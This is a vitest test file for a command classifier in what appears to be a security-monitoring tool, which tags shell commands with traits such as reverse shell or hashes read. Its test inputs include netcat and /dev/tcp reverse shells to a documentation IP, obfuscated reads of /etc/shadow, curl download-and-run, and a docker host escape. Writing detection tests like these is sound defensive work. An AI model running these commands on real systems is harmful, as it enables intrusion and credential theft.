import { LIMITS } from '@mini-soc/model';
import { describe, expect, it } from 'vitest';
import { describeCommand } from './describe-command.ts';

describe('describeCommand()', () => {
  it.each<[string, readonly string[]]>([
    ['/usr/bin/CURL https://www.example.org', ['curl']],
    ['sudo -u bob env A=1 nice -n 5 python3.11 x.py', ['sudo', 'env', 'nice', 'python']],
    ["bash -lc 'cd /srv && make'", ['bash', 'cd', 'make']],
    ['su - bob -c "ls | wc"', ['su', 'ls', 'wc']],
    ['find . -exec grep x {} ;', ['find', 'grep']],
    ['ssh -p 22 web02 sudo reboot', ['ssh', 'sudo', 'reboot']],
    ['docker exec -it app sh -c id', ['docker', 'sh', 'id']],
    ['kubectl exec -n x pod -- sh -c id', ['kubectl', 'sh', 'id']],
    ["echo 'id' | sh", ['echo', 'sh', 'id']],
    ['/opt/my#040tools/run x', ['run']],
    ['A=1', []],
  ])('%s runs %j', (text, programs) => {
    expect(describeCommand(text).programs).toEqual(programs);
  });

  it.each<[string, readonly string[]]>([
    // Spelled so that nobody finds it.
    ["n''c -e /bin/sh 203.0.113.7 4", ['disguised', 'netcat', 'reverse_shell']],
    ["$'\\x6ec' -l 4", ['disguised', 'netcat']],
    ['cat${IFS}/etc/shadow', ['disguised', 'hashes_read']],
    ['cat /etc//./sha*', ['hashes_read']],
    ['cat /etc/default/../shadow', ['hashes_read']],
    // Given to a shell as text.
    ["bash -c 'exec bash -i &>/dev/tcp/203.0.113.7/4 <&1'", ['reverse_shell']],
    ["eval 'cat /etc/shadow'", ['hashes_read']],
    ['bash <(curl -s https://files.example.org/x)', ['download_and_run']],
    ['bash <<E#012cat /etc/shadow#012E', ['hashes_read']],
    ['echo aWQ= | base64 -d | sh', ['encoded_payload', 'decoded']],
    // The same program, another purpose.
    ['docker run -v /srv:/srv nginx', []],
    ['docker run -v /:/host alpine', ['container_escape']],
    ['setcap cap_net_raw+ep /usr/bin/ping', []],
    ['chmod 2775 /srv', []],
    ['grep -c processor /proc/cpuinfo', []],
    ['tar czf - /srv | ssh backup tar xzf -', []],
    ['systemctl stop nginx', []],
    ['systemctl stop auditd.service', ['protection_off']],
  ])('%s has %j', (text, traits) => {
    expect(describeCommand(text).traits).toEqual(traits);
  });

  it('says when it could not read all, so that a long beginning hides nothing', () => {
    const length = LIMITS.field_characters.value;
    expect(describeCommand('true;'.repeat(400)).traits).toEqual(['beyond_bounds']);
    expect(describeCommand(`${'sudo '.repeat(40)}nc -l 4`).traits).toContain('beyond_bounds');
    const deep = "sh -c '".repeat(12);
    expect(describeCommand(`echo ${'$('.repeat(12)} ${deep}`).traits).toContain('beyond_bounds');
    expect(describeCommand(`true ${'x'.repeat(length)}; cat /etc/shadow`).traits).toEqual([
      'hashes_read',
    ]);
  });

  it('takes names of objects as names', () => {
    expect(describeCommand('constructor __proto__ | toString').traits).toEqual([]);
  });
});
